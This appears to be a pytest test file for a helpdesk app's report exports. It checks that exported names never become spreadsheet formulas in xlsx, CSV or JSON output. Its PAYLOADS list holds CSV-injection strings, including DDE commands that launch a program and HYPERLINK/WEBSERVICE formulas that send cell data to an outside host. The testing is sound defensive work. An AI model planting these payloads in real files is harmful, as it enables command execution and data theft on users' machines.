"""No text in a file becomes a formula, in whatever program it is opened, and none is changed."""

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from helpdesk_desktop.reports.exports.export import Export
from helpdesk_desktop.reports.exports.plain_data import json_text
from helpdesk_desktop.reports.exports.separated import belgian_csv, rfc_4180_csv
from helpdesk_desktop.reports.exports.spreadsheet import spreadsheet
from helpdesk_domain.spreadsheet_text import (
    as_text,
    as_text_anywhere,
    from_text,
    from_text_anywhere,
)
from helpdesk_domain.statistics.dimensions import Dimension
from tests.domain.statistics.facts import a_fact
from tests.reports.exports.made import an_export, no_step, read_workbook

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "-18 ans",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@foo",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u2003+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'\t=1+1",
    '"=1+1"',
    "；=1+1",
    "=1+1;=2+2",
    "Accueil;=1+1",
    "Accueil; =1+1",
    "Accueil,=1+1",
    'Accueil";=1+1',
    "Accueil\n=1+1",
    "Accueil\r\n-1+1",
    "Accueil\t=1+1",
    "\uff1d1+1",
    "\uff0b1\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "{=1+1}",
    "_x003D_1+1",
    "=" * 300,
    "='C:\\x'!A1 & \"é\"",
    "'s Gravenzande",
    "\x0b=1+1",
    "\x01=1+1",
)
"""From OWASP (CSV Injection), PayloadsAllTheThings, and what separators and blanks can hide."""

NAMES = {f"need-{number:02}": payload for number, payload in enumerate(PAYLOADS)}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
def export() -> Export:
    """An export in which every name, and whoever made it, would like to be a formula."""
    facts = [a_fact(needs=(need,)) for need in NAMES for _ in range(12)]
    made = an_export(facts, names=NAMES, who=PAYLOADS[1], filters={Dimension.CHANNEL: "phone"})
    assert len(PAYLOADS) >= 40
    return made


def would_be_a_formula(field: str) -> bool:
    return field.lstrip(" \u00a0\u2003\ufeff").startswith(DANGEROUS)


def text_of(cell: Any) -> str:
    """As Excel reads it: openpyxl leaves signs that XML cannot hold as they are in the file."""
    return str(cell.value if cell.value in PAYLOADS else unescape(cell.value))


def fields_of(data: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline=""), delimiter=separator, strict=True))


def test_in_a_workbook_each_comes_back_as_the_text_it_was(export: Export) -> None:
    book = read_workbook(spreadsheet(export, no_step))
    title = export.title(export.figures["needs"])
    [sheet] = [sheet for sheet in book.worksheets if sheet["A1"].value == title]
    cells = [row[0] for row in sheet.iter_rows(min_row=6) if row[0].value is not None]

    assert {text_of(cell) for cell in cells} == set(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)

    # And whoever edits one and leaves it does not make it one
    quoted = {text_of(cell) for cell in cells if cell.quotePrefix}
    assert quoted >= {text for text in PAYLOADS if would_be_a_formula(text)}
    assert "_x003D_1+1" not in quoted


def test_nowhere_in_a_workbook_is_a_formula(export: Export) -> None:
    book = read_workbook(spreadsheet(export, no_step))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n", "d"}
    first = book.worksheets[0]
    assert PAYLOADS[1] in {cell.value for row in first.iter_rows() for cell in row}


def test_in_a_csv_for_spreadsheets_each_is_a_text_that_gives_itself_back(export: Export) -> None:
    rows = fields_of(belgian_csv(export, no_step).decode("utf-8-sig"), ";")
    assert not [field for row in rows for field in row if would_be_a_formula(field)]
    named = {from_text(row[3]) for row in rows if len(row) > 12 and row[12] == "needs" and row[3]}
    assert named == set(PAYLOADS)
    assert PAYLOADS[1] in {from_text(row[1]) for row in rows if len(row) == 2}


def test_in_a_csv_for_programs_too_also_where_a_spreadsheet_splits_it(export: Export) -> None:
    text = rfc_4180_csv(export, no_step).decode()
    heads, *rows = fields_of(text, ",")
    assert not [field for row in rows for field in row if would_be_a_formula(field)]
    label = heads.index("label_1")
    named = {from_text_anywhere(row[label]) for row in rows if row[0] == "needs" and row[label]}
    assert named == set(PAYLOADS)

    # Opened by a double click in Belgium, whatever the quotes say
    split = re.split(r"[;\r\n]", text)
    assert not [field for field in split if would_be_a_formula(field)]


def test_in_json_each_is_itself(export: Export) -> None:
    data = json.loads(json_text(export, no_step))
    [needs] = [one for one in data["figures"] if one["id"] == "needs"]
    assert {cell["labels"][0] for cell in needs["cells"]} == set(PAYLOADS)


@pytest.mark.parametrize(
    "name", ["'t Huis", "Accueil, -18 ans", "Soins & co", "l’aide", "a=b", "80+", "0–9", ""]
)
def test_names_as_they_are_keep_their_letters(name: str) -> None:
    assert (as_text(name), as_text_anywhere(name)) == (name, name)


@given(st.text(st.one_of(st.sampled_from("=+-@;'\" \t\r\n,\uff1d"), st.characters())))
def test_any_text_gives_itself_back(text: Any) -> None:
    assert from_text(as_text(text)) == text
    assert from_text_anywhere(as_text_anywhere(text)) == text
    assert not would_be_a_formula(as_text(text))
